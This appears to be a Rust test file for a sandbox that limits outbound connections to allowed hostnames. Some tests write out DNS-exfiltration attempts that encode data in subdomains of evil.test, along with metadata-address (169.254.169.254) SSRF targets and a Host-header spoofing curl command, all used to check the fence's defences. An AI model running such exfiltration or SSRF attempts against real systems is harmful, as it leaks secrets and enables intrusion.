@@ -1,0 +1,277 @@
+//! Hosts by name: those that are allowed are reached as on any network, and nothing else is.
+//!
+//! Names are looked up on the host by a `getent` of the test's own, which writes down what it was asked for; servers are
+//! the test's own on loopback, which a rule has to name.
+
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::PathBuf;
+use std::sync::{Arc, Mutex};
+
+use crate::suite::fence_support::{Fenced, Launcher, for_every_launcher};
+use crate::suite::support::Room;
+
+const PROGRAM: &str = include_str!("../data/network.py");
+
+for_every_launcher! {
+    allowed_hosts_are_reached_as_on_any_network,
+    what_is_not_allowed_is_refused_by_name,
+    names_stay_here_until_a_connection_is_allowed,
+    a_name_that_leads_elsewhere_is_refused,
+    a_host_is_no_way_to_another_one,
+    the_port_cannot_be_exchanged_meanwhile,
+    what_was_said_before_the_end_arrives,
+    a_thousand_connections_at_once,
+}
+
+/// A server on loopback, and what was said to it.
+struct Server {
+    port: u16,
+    heard: Arc<Mutex<Vec<Vec<u8>>>>,
+}
+
+impl Server {
+    /// Hears what each says to the end, and answers with it.
+    fn new() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let heard = Arc::new(Mutex::new(Vec::new()));
+        let all = Arc::clone(&heard);
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let (mut stream, all) = (stream.unwrap(), Arc::clone(&all));
+                std::thread::spawn(move || {
+                    let mut said = Vec::new();
+                    let _ = stream.read_to_end(&mut said);
+                    let _ = stream.write_all(&[b"heard ", &said[..]].concat());
+                    all.lock().unwrap().push(said);
+                });
+            }
+        });
+        Self { port, heard }
+    }
+
+    fn heard(&self) -> usize {
+        self.heard.lock().unwrap().len()
+    }
+}
+
+/// A room with a resolver of its own, for which `*.test` is at these addresses, and rules.
+fn room(launcher: Launcher, addresses: &str, rules: &[String]) -> Room {
+    let mut room = Room::on(launcher);
+    let bin = room.home.join("bin");
+    std::fs::create_dir(&bin).unwrap();
+    let asked = asked(&room);
+    let text = format!(
+        "#!/bin/sh\necho \"$2\" >> {}\ncase $2 in *.test) ;; *) exit 2 ;; esac\nfor a in {addresses}; do echo \"$a STREAM $2\"; done\n",
+        asked.display()
+    );
+    let getent = bin.join("getent");
+    std::fs::write(&getent, text).unwrap();
+    std::fs::set_permissions(&getent, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let path = std::env::var("PATH").unwrap_or_else(|_| "/usr/bin:/bin".to_owned());
+    room.env.push(("PATH".to_owned(), format!("{}:{path}", bin.display())));
+    room.configure(&serde_json::json!({ "allowedHosts": rules }).to_string());
+    room.write("network.py", PROGRAM);
+    room
+}
+
+/// Where the names are written that were looked up.
+fn asked(room: &Room) -> PathBuf {
+    room.home.join("asked")
+}
+
+fn names_asked(room: &Room) -> String {
+    std::fs::read_to_string(asked(room)).unwrap_or_default()
+}
+
+fn python(room: &Room, lines: &[String]) -> Fenced {
+    let ran = room.fenced(&format!("python3 network.py {}", lines.join(" ")));
+    assert_eq!(ran.code, 0, "{ran:?}");
+    ran
+}
+
+/// Whether there is a way out by name here; else that it is said, and that nothing gets out.
+fn has_way_out(room: &Room, server: &Server) -> bool {
+    let ran = room.fenced(&format!("python3 network.py waiting,a.test,{}", server.port));
+    if ran.promises("noWayOut") {
+        return true;
+    }
+    assert!(!ran.stdout.contains("heard") && server.heard() == 0, "{ran:?}");
+    false
+}
+
+fn allowed_hosts_are_reached_as_on_any_network(launcher: Launcher) {
+    let server = Server::new();
+    let port = server.port;
+    let nobody = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    let rules = [format!("a.test:{port}"), format!(".test:{nobody}"), "127.0.0.1".to_owned()];
+    let room = room(launcher, "127.0.0.1", &rules);
+    if !has_way_out(&room, &server) {
+        return;
+    }
+    let lines = [
+        format!("waiting,a.test,{port}"),
+        format!("waiting,A.TEST,{port}"),
+        format!("loop,a.test,{port}"),
+        format!("mapped,a.test,{port}"),
+        format!("waiting,a.test,{nobody}"),
+        format!("loop,a.test,{nobody}"),
+        format!("datagram,a.test,{port}"),
+    ];
+    let ran = python(&room, &lines);
+    let want = [
+        format!("('heard hello', {port})"),
+        format!("('heard hello', {port})"),
+        "('EINPROGRESS', True, 0)".to_owned(),
+        "heard hello".to_owned(),
+        "ECONNREFUSED".to_owned(),
+        "('EINPROGRESS', True, 'ECONNREFUSED')".to_owned(),
+        "sent".to_owned(),
+    ];
+    let want: Vec<String> = lines.iter().zip(want).map(|(line, want)| format!("{line} {want}")).collect();
+    assert_eq!(ran.stdout.lines().collect::<Vec<_>>(), want, "{ran:?}");
+    assert_eq!(ran.resources(), Vec::<&str>::new(), "{ran:?}");
+    let connections = ran.json["connections"].as_array().unwrap();
+    assert_eq!(connections.len(), 4, "{connections:?}");
+    let first = &connections[0];
+    assert_eq!((&first["host"], &first["port"]), (&"a.test".into(), &port.into()));
+    assert_eq!((&first["bytesOut"], &first["bytesIn"]), (&5.into(), &11.into()), "{first}");
+    let log = room.run(&["log", "--network"]).expect(0).stdout;
+    assert!(log.contains(&format!("a.test:{port}")) && log.contains("127.0.0.1"), "{log}");
+}
+
+fn what_is_not_allowed_is_refused_by_name(launcher: Launcher) {
+    let (server, other) = (Server::new(), Server::new());
+    let rules = [format!("a.test:{}", server.port), "*.wild.test".to_owned(), "127.0.0.1".to_owned()];
+    let room = room(launcher, "127.0.0.1", &rules);
+    if !has_way_out(&room, &server) {
+        return;
+    }
+    let lines = [
+        format!("waiting,b.test,{}", server.port),
+        format!("loop,b.test,{}", server.port),
+        format!("waiting,a.test,{}", other.port),
+        format!("waiting,wild.test,{}", other.port),
+        "waiting,x.wild.test,22".to_owned(),
+        "waiting,198.51.100.7,443".to_owned(),
+        "waiting,198.18.77.77,443".to_owned(),
+        format!("waiting,127.0.0.2,{}", other.port),
+        format!("fast,a.test,{}", other.port),
+    ];
+    let ran = python(&room, &lines);
+    assert!(!ran.stdout.contains("heard"), "{ran:?}");
+    assert_eq!(other.heard(), 0, "{ran:?}");
+    let resources = ran.resources();
+    for refused in [
+        format!("b.test:{}", server.port),
+        format!("a.test:{}", other.port),
+        format!("wild.test:{}", other.port),
+        "x.wild.test:22".to_owned(),
+        "198.51.100.7:443".to_owned(),
+    ] {
+        assert!(resources.contains(&refused.as_str()), "{refused}: {resources:?}");
+    }
+    let messages = ran.json["violations"].to_string();
+    assert!(messages.contains("port 22 is blocked"), "{messages}");
+}
+
+fn names_stay_here_until_a_connection_is_allowed(launcher: Launcher) {
+    let server = Server::new();
+    let room = room(launcher, "127.0.0.1", &[format!("a.test:{}", server.port), "127.0.0.1".to_owned()]);
+    if !has_way_out(&room, &server) {
+        return;
+    }
+    let before = names_asked(&room);
+    assert!(before.lines().all(|name| name == "a.test"), "{before}");
+    let ran = room.fenced(
+        "getent hosts c2VjcmV0.evil.test; python3 - <<'E'\nimport socket\nprint(socket.gethostbyname('bW9yZQ.evil.test'))\ns=socket.socket(type=socket.SOCK_DGRAM)\ns.sendto(b'\\0'*40, ('192.0.2.53', 53))\nE\npython3 network.py waiting,ZXZlbg.evil.test,443",
+    );
+    assert!(ran.stdout.contains("198.18."), "{ran:?}");
+    assert_eq!(names_asked(&room), before, "nobody else heard of them");
+    assert!(ran.resources().contains(&"zxzlbg.evil.test:443"), "{ran:?}");
+}
+
+fn a_name_that_leads_elsewhere_is_refused(launcher: Launcher) {
+    let server = Server::new();
+    let port = server.port;
+    for (addresses, word) in [
+        ("127.0.0.1", "machine itself"),
+        ("169.254.169.254", "metadata"),
+        ("::ffff:169.254.169.254", "metadata"),
+        ("64:ff9b::a9fe:a9fe", "metadata"),
+        ("100.64.1.1", "provider's own"),
+        ("10.9.8.7", "private"),
+        ("::1", "machine itself"),
+    ] {
+        let room = room(launcher, addresses, &[format!("*.test:{port}")]);
+        if !has_way_out(&room, &server) {
+            return;
+        }
+        let ran = python(&room, &[format!("waiting,a.test,{port}"), format!("loop,a.test,{port}")]);
+        assert!(!ran.stdout.contains("heard"), "{addresses}: {ran:?}");
+        assert_eq!(ran.stdout.matches("ECONNREFUSED").count(), 2, "{addresses}: {ran:?}");
+        assert_eq!(ran.resources(), [format!("a.test:{port}")], "{addresses}: {ran:?}");
+        assert!(ran.json["violations"][0]["message"].to_string().contains(word), "{addresses}: {ran:?}");
+        assert_eq!(server.heard(), 0, "{addresses}");
+    }
+}
+
+fn a_host_is_no_way_to_another_one(launcher: Launcher) {
+    let server = Server::new();
+    let port = server.port;
+    let room = room(launcher, "127.0.0.1", &[format!("a.test:{port}"), "127.0.0.1".to_owned()]);
+    if !has_way_out(&room, &server) {
+        return;
+    }
+    let before = server.heard();
+    let ran = python(&room, &[format!("hello,a.test,{port},evil.test")]);
+    assert!(!ran.stdout.contains("shaken"), "{ran:?}");
+    assert_eq!(ran.resources(), ["evil.test"], "{ran:?}");
+    let ran = room.fenced(&format!("curl -sS -m 20 -H 'Host: evil.test' http://a.test:{port}/"));
+    assert_eq!(ran.resources(), ["evil.test"], "{ran:?}");
+    let heard = server.heard.lock().unwrap();
+    assert!(heard[before..].iter().all(Vec::is_empty), "{heard:?}");
+}
+
+fn the_port_cannot_be_exchanged_meanwhile(launcher: Launcher) {
+    let (server, other) = (Server::new(), Server::new());
+    let room = room(launcher, "127.0.0.1", &[format!("a.test:{}", server.port), "127.0.0.1:1".to_owned()]);
+    room.configure(
+        &serde_json::json!({ "allowedHosts": [format!("a.test:{}", server.port), "127.0.0.1:1"] })
+            .to_string(),
+    );
+    if !has_way_out(&room, &server) {
+        return;
+    }
+    let ran = python(&room, &[format!("swap,a.test,{},{},400", server.port, other.port)]);
+    assert_eq!(other.heard(), 0, "{ran:?}");
+    assert!(ran.resources().contains(&format!("a.test:{}", other.port).as_str()), "both were tried: {ran:?}");
+    assert!(server.heard() > 1, "{ran:?}");
+}
+
+fn what_was_said_before_the_end_arrives(launcher: Launcher) {
+    const MUCH: usize = 20_000_000;
+    let server = Server::new();
+    let port = server.port;
+    let room = room(launcher, "127.0.0.1", &[format!("a.test:{port}"), "127.0.0.1".to_owned()]);
+    if !has_way_out(&room, &server) {
+        return;
+    }
+    let ran = python(&room, &[format!("leaves,a.test,{port},{MUCH}")]);
+    assert!(ran.stdout.contains("said"), "{ran:?}");
+    let all = || server.heard.lock().unwrap().iter().any(|said| said.len() == MUCH);
+    assert!(crate::suite::fence_support::wait_until(std::time::Duration::from_secs(20), all), "{ran:?}");
+}
+
+fn a_thousand_connections_at_once(launcher: Launcher) {
+    let server = Server::new();
+    let port = server.port;
+    let room = room(launcher, "127.0.0.1", &[format!("a.test:{port}"), "127.0.0.1".to_owned()]);
+    if !has_way_out(&room, &server) {
+        return;
+    }
+    let ran = room.fenced(&format!("ulimit -n 4096; python3 network.py many,a.test,{port},1000"));
+    assert!(ran.stdout.ends_with(" 1000\n"), "{ran:?}");
+}
